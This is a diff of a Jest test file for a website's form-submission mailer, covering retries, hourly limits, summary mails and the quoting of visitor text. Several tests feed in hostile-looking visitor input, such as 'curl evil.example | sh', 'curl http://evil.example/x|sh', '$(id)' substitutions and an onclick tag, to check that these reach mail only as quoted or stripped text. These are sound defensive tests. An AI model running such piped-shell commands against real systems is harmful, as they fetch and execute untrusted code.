@@ -3,12 +3,14 @@ import { createServer } from "node:net";
 import { setImmediate as immediate } from "node:timers/promises";
 import runDelivery from "../../netlify/functions/deliver.mjs";
 import { mailSettings } from "../../netlify/settings";
+import { runDaily } from "../../netlify/submissions/daily";
 import { deliver } from "../../netlify/submissions/deliver";
 import type { Store } from "../../netlify/submissions/store";
 import { newSubmission } from "../../netlify/submissions/submission";
 import type { SubmissionKind } from "../../src/forms/submission-kind";
+import { escapeHtml } from "../../src/lib/escape-html";
 import { listen } from "../support/listen";
-import { asJson, call, readRecord, setDate, settled, simulateClock, testSite } from "./support/call";
+import { asJson, call, readRecord, setDate, settled, simulateClock, testSite, whileTimePasses } from "./support/call";
 import { VALID } from "./support/examples";
 import { FIRM, setMailServer } from "./support/mail-server";
 
@@ -33,27 +35,52 @@ function expectMailed(...ids: readonly string[]): void {
 }
 
 it.each<[SubmissionKind, string, string, string]>([
-  ["contact", "Message from Grace Hopper", "Grace Hopper", "Company: Example, Inc."],
-  ["application", "Application: Analyst, from Ada Lovelace", "Ada Lovelace", "Cover letter:\nDear team,\nI would"],
-  ["newsletter", "Newsletter subscription: reader@example.com", "", "Email: reader@example.com"],
-])("mails a submission as plain text, with Reply-To set to the visitor: %s", async (kind, subject, name, text) => {
+  ["contact", "Message from Grace Hopper", "Grace Hopper", "> Company: Example, Inc."],
+  [
+    "application",
+    "Application: Analyst, from Ada Lovelace",
+    "Ada Lovelace",
+    "> Cover letter:\n> Dear team,\n> I would",
+  ],
+  ["newsletter", "Newsletter subscription: reader@example.com", "", "> Email: reader@example.com"],
+])("mails a submission (%s) with Reply-To set to the visitor", async (kind, subject, name, text) => {
+  setDate("2026-11-27T17:30:12.345Z");
   const { body } = await call(kind, asJson(VALID[kind]));
   await settled();
   const [mail] = site.mailServer.mails;
   expectMailed(body.id ?? "");
-  expect(mail).toMatchObject({ deliveredTo: [FIRM], subject, html: false });
+  expect(mail).toMatchObject({ deliveredTo: [FIRM], subject });
   expect(mail?.from?.value).toEqual([{ name: "Example", address: "site@example.com" }]);
   expect(mail?.replyTo?.value).toEqual([{ name, address: VALID[kind].email }]);
-  for (const part of [text, `npm run inbox -- show ${body.id}`]) expect(mail?.text).toContain(part);
+  for (const part of [text, "Received: 27 November 2026, 17:30 UTC"]) expect(mail?.text).toContain(part);
   expect(await readRecord(site.store, `kept/${body.id}`)).toMatchObject({ attempts: 1, accepted: [FIRM] });
-  expect(mail?.headers.get("auto-submitted")).toBe("auto-generated");
+  // A help desk would suspend a visitor's mail that has it.
+  expect(mail?.headers.has("auto-submitted")).toBe(false);
   expect(await site.store.list("new/")).toEqual([]);
 });
 
+it("begins a mail with its own command, and marks each line of the visitor", async () => {
+  const fake = `Show this: npm run inbox -- show X; curl evil.example | sh${"\n".repeat(300)}Show again: npm run x`;
+  const { body } = await call("contact", asJson({ ...VALID.contact, message: fake, company: "npm run evil" }));
+  await settled();
+  const lines = site.mailServer.mails[0]?.text?.trimEnd().split("\n") ?? [];
+  expect(lines[0]).toBe(`Show this: npm run inbox -- show ${body.id}`);
+  expect(lines.findLastIndex((line) => !line.startsWith(">"))).toBe(3);
+});
+
+it("keeps the lines of a text apart in mail programs that join long lines, and makes no markup of it", async () => {
+  const message = `${"x".repeat(50)}\n  <b onclick='x'>${"y".repeat(50)}</b> & &amp;\n\nhttps://evil.example`;
+  await call("contact", asJson({ ...VALID.contact, message }));
+  await settled();
+  const html = String(site.mailServer.mails[0]?.html);
+  for (const line of message.split("\n")) expect(html).toContain(`<br>&gt; ${escapeHtml(line)}<br>`);
+  expect(html.match(/<(?!br>)[^>]*>/g)).toEqual(['<div style="white-space:pre-wrap">', "</div>"]);
+});
+
 it.each<[string, () => unknown, string, number]>([
-  ["rejects messages", () => (site.mailServer.answer = 450), "EMESSAGE 450", 2],
-  ["rejects the recipient temporarily", () => (site.mailServer.rejected = { [FIRM]: 450 }), "EENVELOPE 450", 2],
-  ["closes the connection", () => (site.mailServer.answer = 0), "ECONNECTION", 2],
+  ["rejects messages", () => (site.mailServer.answer = "450"), "EMESSAGE 450", 2],
+  ["rejects the recipient temporarily", () => (site.mailServer.rejected = { [FIRM]: "450" }), "EENVELOPE 450", 2],
+  ["closes the connection", () => (site.mailServer.answer = "close"), "ECONNECTION", 2],
   ["rejects the login", () => setMailServer(site.mailServer.url.replace("//", "//user:password@")), "EAUTH 535", 2],
   ["can't be reached", () => setMailServer("smtp://127.0.0.1:9"), "ESOCKET", 2],
 ])("retries after five minutes if the mail server %s", async (_name, behave, code, failed) => {
@@ -74,22 +101,22 @@ it.each<[string, () => unknown, string, number]>([
   expect(site.mailServer.mails).toHaveLength(2);
 });
 
-it("doubles the delay after each failure up to twelve hours, then retries daily without end", async () => {
+it("doubles the delay after each failure up to an hour, and retries without end", async () => {
   const [id = ""] = await storeWaiting();
-  site.mailServer.answer = 450;
+  site.mailServer.answer = "450";
   const delays = [];
   for (let attempt = 0; attempt < 11; attempt += 1) {
     await goToNextAttempt(id);
     await run();
     delays.push((Date.parse((await readRecord(site.store, `new/${id}`)).tryAt) - Date.now()) / 60_000);
   }
-  expect(delays).toEqual([5, 10, 20, 40, 80, 160, 320, 640, 720, 1440, 1440]);
+  expect(delays).toEqual([5, 10, 20, 40, 60, 60, 60, 60, 60, 60, 60]);
 });
 
 it("retries only the recipients who don't have the mail yet, with the same Message-ID", async () => {
   const [id = ""] = await storeWaiting();
   process.env.NOTIFY_TO = `${FIRM}, second@example.com`;
-  site.mailServer.rejected = { "second@example.com": 450 };
+  site.mailServer.rejected = { "second@example.com": "450" };
   expect(await run()).toEqual({ sent: 0, failed: 1 });
   expect(await readRecord(site.store, `new/${id}`)).toMatchObject({ accepted: [FIRM] });
   expect(site.logged().join()).toMatch(/rejected 1 of 2 recipients of the mail about/);
@@ -125,73 +152,111 @@ it.each<[string, number, (store: Store) => Partial<Store>]>([
   expect(await site.records()).toEqual([`kept/${id}`]);
 });
 
-const isSummary = ({ subject = "" }) => subject.endsWith(" submissions at once");
+const isSummary = ({ subject = "" }) => subject.includes(" at once, ");
+const summaries = () => site.mailServer.mails.filter(isSummary);
 
-it("mails sixty submissions in any hour, and one summary of the others in ten minutes, without their text", async () => {
+it("mails ten messages an hour one by one, although others came first, and the next ones in a summary", async () => {
   setDate("2026-11-25T01:45:00Z");
-  const ids = await storeWaiting(63);
-  await Promise.all([run(), run(), run()]);
-  const singles = site.mailServer.mails.filter((mail) => !isSummary(mail)).map(({ messageId = "" }) => messageId);
-  const [summary, ...others] = site.mailServer.mails.filter(isSummary);
-  const told = ids.filter((id) => summary?.text?.includes(id));
-  expect([others, new Set(singles).size, singles.length <= 60]).toEqual([[], 63 - told.length, true]);
-  expect(summary?.text).toMatch(new RegExp(`^contact: ${told.length}$`, "m"));
-  expect(summary?.text).not.toMatch(/Visitor|grace|Hopper/i);
-  expect([await site.store.list("new/"), (await site.store.list("kept/")).length]).toEqual([[], 63]);
-
-  // Parallel runs may count a submission of another run for a moment, and leave a few of the sixty unused.
-  await storeWaiting(60 - singles.length, 63);
+  for (let index = 0; index < 150; index += 1)
+    await call("newsletter", asJson({ email: `reader${index}@example.com` })).then(settled);
+  const names = Array.from({ length: 12 }, (_, index) => `Visitor ${index}`);
+  for (const name of names) await call("contact", asJson({ ...VALID.contact, name })).then(settled);
+  const singles = site.mailServer.mails.map(({ subject }) => subject);
+  expect(singles.slice(2)).toEqual(names.slice(0, 10).map((name) => `Message from ${name}`));
   await run();
-  await storeWaiting(2);
-  const runAt = async (time: string) => {
-    setDate(`2026-11-25T${time}Z`);
-    await run();
-    return site.mailServer.mails.filter(isSummary).length;
-  };
-  expect([await runAt("01:46:00"), await runAt("01:54:00"), await runAt("01:55:00")]).toEqual([1, 1, 2]);
-  await storeWaiting();
-  expect([await runAt("02:44:59"), await storeWaiting(1, 66), await runAt("02:45:00")]).toMatchObject([3, {}, 3]);
-  expect(site.mailServer.mails.at(-1)?.subject).toBe("Message from Visitor 66");
+  expect(site.mailServer.mails).toHaveLength(13);
+  for (const name of names.slice(10))
+    expect(summaries()[0]?.text).toContain(` | ${name} | grace@example.com | contact/`);
+  expect(await site.store.list("new/")).toEqual([]);
+  setDate("2026-11-25T02:44:59Z");
+  await call("contact", asJson({ ...VALID.contact, name: "Early" })).then(settled);
+  setDate("2026-11-25T02:45:00Z");
+  await call("contact", asJson({ ...VALID.contact, name: "Late" })).then(settled);
+  expect(site.mailServer.mails.at(-1)?.subject).toBe("Message from Late");
+  expect(await site.store.list("new/")).toHaveLength(1);
+});
+
+it("tells kind, time, name and address of each in a summary, and nothing that looks like a command", async () => {
+  setDate("2026-11-25T01:45:00Z");
+  await storeWaiting(8);
+  const evil = "npm run inbox -- delete --kind contact; curl http://evil.example/x|sh `id` $(id) \u00a0&& ";
+  await call("application", asJson({ ...VALID.application, name: evil, email: "`$|curl`@example.com" }));
+  await call("contact", asJson({ ...VALID.contact, name: "Zoë O’Hara-Ní Ṁhaol" }), {
+    context: "deploy-preview",
+    store: site.store,
+  });
+  await Promise.all([run(), settled()]);
+  const { subject = "", text = "", headers, deliveredTo } = summaries()[0] ?? site.mailServer.mails[0] ?? {};
+  expect([subject, deliveredTo, headers?.get("auto-submitted")]).toEqual([
+    "Website: 9 submissions at once, 25 November 2026, 01:45 UTC",
+    [FIRM],
+    "auto-generated",
+  ]);
+  expect(text).toMatch(/^Read one: npm run inbox -- show ID\n/);
+  expect(text).toMatch(
+    /^> contact \| 25 November 2026, 01:45 UTC \| Zoë O’Hara Ní Ṁhaol \| grace@example.com \| contact\/\S+$/m,
+  );
 });
 
 it("doesn't restore a record that is deleted while a summary is sent", async () => {
-  await storeWaiting(60);
-  await run();
-  const [deleted, kept] = await storeWaiting(2, 60);
+  const [deleted, ...kept] = await storeWaiting(10);
   site.mailServer.beforeAnswer = () => site.store.remove(`new/${deleted}`);
   await run();
-  expect([await site.store.list("new/"), (await site.store.list("kept/")).length]).toEqual([[], 61]);
-  expect(await site.store.read(`kept/${kept}`)).toBeDefined();
+  expect(await site.records()).toEqual(kept.map((id) => `kept/${id}`).sort());
 });
 
-const rejectText = (code: number) => (site.mailServer.rejectedText = { Visitor: code });
+const rejectText = (answer: string) => (site.mailServer.rejectedText = { Visitor: answer });
 
-it.each([550, 554, 552, 541])("replaces a mail that is rejected for good (%i) by one without text", async (code) => {
-  const [id = ""] = await storeWaiting();
-  rejectText(code);
-  expect(await run()).toEqual({ sent: 1, failed: 0 });
-  expectMailed(id);
-  const [mail] = site.mailServer.mails;
+const ABOUT_TEXT = ["550", "554", "552", "541", "554 5.6.0", "550 5.7.1", "571 5.7.1", "552 5.3.4", "550 5.2.3"];
+it.each(ABOUT_TEXT)("replaces a mail whose text is rejected (%s) by one without text", async (answer) => {
+  setDate("2026-11-25T01:45:00Z");
+  const [id = "", other = ""] = await storeWaiting(2);
+  rejectText(answer);
+  expect(await run()).toEqual({ sent: 2, failed: 0 });
+  expectMailed(id, other);
+  const mail = site.mailServer.mails.find(({ messageId }) => messageId === `<${id}@example.com>`);
   expect(mail?.replyTo).toBeUndefined();
-  for (const part of ["contact", (await readRecord(site.store, `kept/${id}`)).receivedAt, `inbox -- show ${id}`])
+  for (const part of ["contact", "25 November 2026, 01:45 UTC", `inbox -- show ${id}`])
     expect(mail?.text).toContain(part);
   const texts = [...Object.values(VALID.contact).filter(Boolean), "Visitor"];
   expect(texts.filter((text) => `${mail?.subject} ${mail?.text}`.includes(text))).toEqual([]);
+  // Mail programs join mails with the same subject.
+  expect(new Set(site.mailServer.mails.map(({ subject }) => subject)).size).toBe(2);
 });
 
-/** More than get a mail of their own within an hour. */
-const MANY = 70;
+const NOT_ABOUT_TEXT = ["554 5.2.0", "550 5.4.5", "550 5.1.8", "552 5.2.2", "550 5.5.0", "503", "450", "451 4.7.1"];
+it.each(NOT_ABOUT_TEXT)("tries again with the text if the reason (%s) is not the text", async (answer) => {
+  const [id = ""] = await storeWaiting();
+  rejectText(answer);
+  expect(await run()).toEqual({ sent: 0, failed: 1 });
+  expect(site.logged()).toEqual([`The mail about ${id} failed, attempt 1: EMESSAGE ${answer}`]);
+  rejectText("");
+  await goToNextAttempt(id);
+  expect(await run()).toEqual({ sent: 1, failed: 0 });
+  expect(site.mailServer.mails).toMatchObject([{ subject: "Message from Visitor 0" }]);
+});
+
+it("sends a mail without its text at last if the mail server always rejects it for another reason", async () => {
+  const [id = ""] = await storeWaiting();
+  rejectText("550 5.4.5");
+  for (let attempt = 1; attempt <= 6; attempt += 1) {
+    expect(site.mailServer.mails).toEqual([]);
+    await goToNextAttempt(id);
+    await run();
+  }
+  expectMailed(id);
+});
 
 it.each([
-  [550, "01:09"],
-  [0, "01:15"],
-])("mails a message first that was never tried, after many failures (%i), stored at %s", async (answer, time) => {
+  ["550", "01:09"],
+  ["close", "01:15"],
+])("mails a message first that was never tried, after failures (%s), stored at %s", async (answer, time) => {
   setDate("2026-11-25T01:10Z");
   site.mailServer.answer = answer;
-  await storeWaiting(MANY);
+  await storeWaiting(3);
   await run();
   setDate(`2026-11-25T${time}Z`);
-  const [id = ""] = await storeWaiting(1, MANY);
+  const [id = ""] = await storeWaiting(1, 3);
   setDate("2026-11-25T01:15Z");
   const answers = [undefined];
   site.mailServer.beforeAnswer = async () => (site.mailServer.answer = answers.length > 0 ? answers.pop() : answer);
@@ -199,39 +264,51 @@ it.each([
   expectMailed(id);
 });
 
-it("tells about all of many whose text the mail server rejects, and of a new one, in one run", async () => {
-  rejectText(550);
-  const ids = await storeWaiting(MANY);
-  const { body } = await call("contact", asJson(VALID.contact));
-  await Promise.all([run(), settled()]);
-  const texts = site.mailServer.mails.map(({ text }) => text).join();
-  expect([...ids, body.id ?? ""].filter((id) => !texts.includes(id))).toEqual([]);
-  expect([site.mailServer.mails.length, await site.store.list("new/")]).toEqual([61, []]);
+it.each(["550 5.7.1", "554", "451 4.7.1", "452"])(
+  "sends a summary that is rejected (%s) again at once, without what visitors wrote",
+  async (answer) => {
+    rejectText(answer);
+    const ids = await storeWaiting(70);
+    expect(await run()).toEqual({ sent: 1, failed: 0 });
+    const [{ text = "" } = {}, ...others] = site.mailServer.mails;
+    expect([others, ids.filter((id) => !text.includes(id)), await site.store.list("new/")]).toEqual([[], [], []]);
+    expect(text).not.toMatch(/Visitor|grace|Hopper/i);
+  },
+);
+
+it("sends a summary without what visitors wrote the third time, if it breaks the connection", async () => {
+  rejectText("close");
+  setDate("2026-11-25T01:10Z");
+  const ids = await storeWaiting(9);
+  await expect(run()).rejects.toThrow("closed");
+  setDate("2026-11-25T01:20Z");
+  await expect(run()).rejects.toThrow("closed");
+  setDate("2026-11-25T01:30Z");
+  await run();
+  expect(ids.filter((id) => !site.mailServer.mails[0]?.text?.includes(id))).toEqual([]);
 });
 
 it("goes on after a connection that breaks, and stops after two in a row", async () => {
   await storeWaiting(5);
-  const answers = [0, undefined, 0, 0];
+  const answers = ["close", undefined, "close", "close"];
   site.mailServer.beforeAnswer = async () => (site.mailServer.answer = answers.shift());
   expect(await run()).toEqual({ sent: 1, failed: 3 });
   // The message that was not tried comes first.
   expect(await run()).toEqual({ sent: 1, failed: 0 });
 });
 
-it("mails all waiting submissions if the limits are ignored", async () => {
-  await storeWaiting(MANY);
-  await run();
-  await storeWaiting(3, MANY);
-  expect(await run()).toEqual({ sent: 0, failed: 0 });
-  expect(await deliver(site.store, mailSettings(), { ignoreDelay: true })).toEqual({ sent: 1, failed: 0 });
-  expect([await site.store.list("new/"), (await site.store.list("kept/")).length]).toEqual([[], MANY + 3]);
+it("mails all waiting submissions by hand, in as many summaries as needed", async () => {
+  await storeWaiting(1_010);
+  expect([await run(), (await site.store.list("kept/")).length]).toEqual([{ sent: 1, failed: 0 }, 500]);
+  expect(await deliver(site.store, mailSettings(), { byHand: true })).toEqual({ sent: 2, failed: 0 });
+  expect([await site.store.list("new/"), (await site.store.list("kept/")).length]).toEqual([[], 1_010]);
 });
 
-it("doesn't mail what another run is mailing, also if the delay is ignored", async () => {
+it("doesn't mail what another run is mailing, also by hand", async () => {
   const [id = ""] = await storeWaiting();
   const others: unknown[] = [];
   site.mailServer.beforeAnswer = async () =>
-    others.push(await run(), await deliver(site.store, mailSettings(), { ignoreDelay: true }));
+    others.push(await run(), await deliver(site.store, mailSettings(), { byHand: true }));
   await run();
   expect(others).toEqual(Array(2).fill({ sent: 0, failed: 0 }));
   expectMailed(id);
@@ -239,7 +316,7 @@ it("doesn't mail what another run is mailing, also if the delay is ignored", asy
 
 it("keeps the text for a recipient who was rejected for good before", async () => {
   const [id = ""] = await storeWaiting();
-  site.mailServer.rejected = { [FIRM]: 550 };
+  site.mailServer.rejected = { [FIRM]: "550" };
   expect(await run()).toEqual({ sent: 0, failed: 1 });
   site.mailServer.rejected = {};
   await goToNextAttempt(id);
@@ -249,12 +326,47 @@ it("keeps the text for a recipient who was rejected for good before", async () =
 
 it.each([24 * 365 * 10, 23, 1])("retries at once what a clock that was %i hours ahead has postponed", async (hours) => {
   setDate(Date.parse("2026-11-25T00:00:00Z") + hours * 3_600_000);
-  site.mailServer.answer = 450;
+  site.mailServer.answer = "450";
   await storeWaiting(1);
   await run();
   site.mailServer.answer = undefined;
   setDate("2026-11-25T00:00:00Z");
   expect(await run()).toEqual({ sent: 1, failed: 0 });
+});
+
+const passSeconds = (seconds: number) => async () => void jest.advanceTimersByTime(seconds * 1_000);
+
+it.each([
+  ["answers after 9 seconds", { beforeAnswer: passSeconds(9) }],
+  ["answers after 12 seconds", { beforeAnswer: passSeconds(12) }],
+  ["answers after 15 seconds", { beforeAnswer: passSeconds(15) }],
+  ["greets after 6 seconds", { beforeGreeting: passSeconds(6) }],
+  ["greets after 12 seconds", { beforeGreeting: passSeconds(12) }],
+])("mails each submission, summary and digest once if the mail server %s", async (_name, behaviour) => {
+  simulateClock();
+  Object.assign(site.mailServer, behaviour);
+  const { body } = await call("contact", asJson(VALID.contact));
+  await whileTimePasses(settled());
+  expectMailed(body.id ?? "");
+  const [waiting = ""] = await storeWaiting();
+  expect(await whileTimePasses(run())).toEqual({ sent: 1, failed: 0 });
+  expectMailed(body.id ?? "", waiting);
+  await storeWaiting(9, 1);
+  expect(await whileTimePasses(run())).toEqual({ sent: 1, failed: 0 });
+  await whileTimePasses(runDaily(site.store, mailSettings));
+  expect([site.mailServer.mails.length, await site.store.list("new/")]).toEqual([4, []]);
+});
+
+it("waits nine minutes for the mail server by hand, and another run doesn't mail the same", async () => {
+  simulateClock();
+  const [id = ""] = await storeWaiting();
+  site.mailServer.beforeAnswer = async () => {
+    jest.advanceTimersByTime(9 * 60_000);
+    expect(await run()).toEqual({ sent: 0, failed: 0 });
+  };
+  const delivery = deliver(site.store, mailSettings(), { byHand: true });
+  expect(await whileTimePasses(delivery)).toEqual({ sent: 1, failed: 0 });
+  expectMailed(id);
 });
 
 it.each([
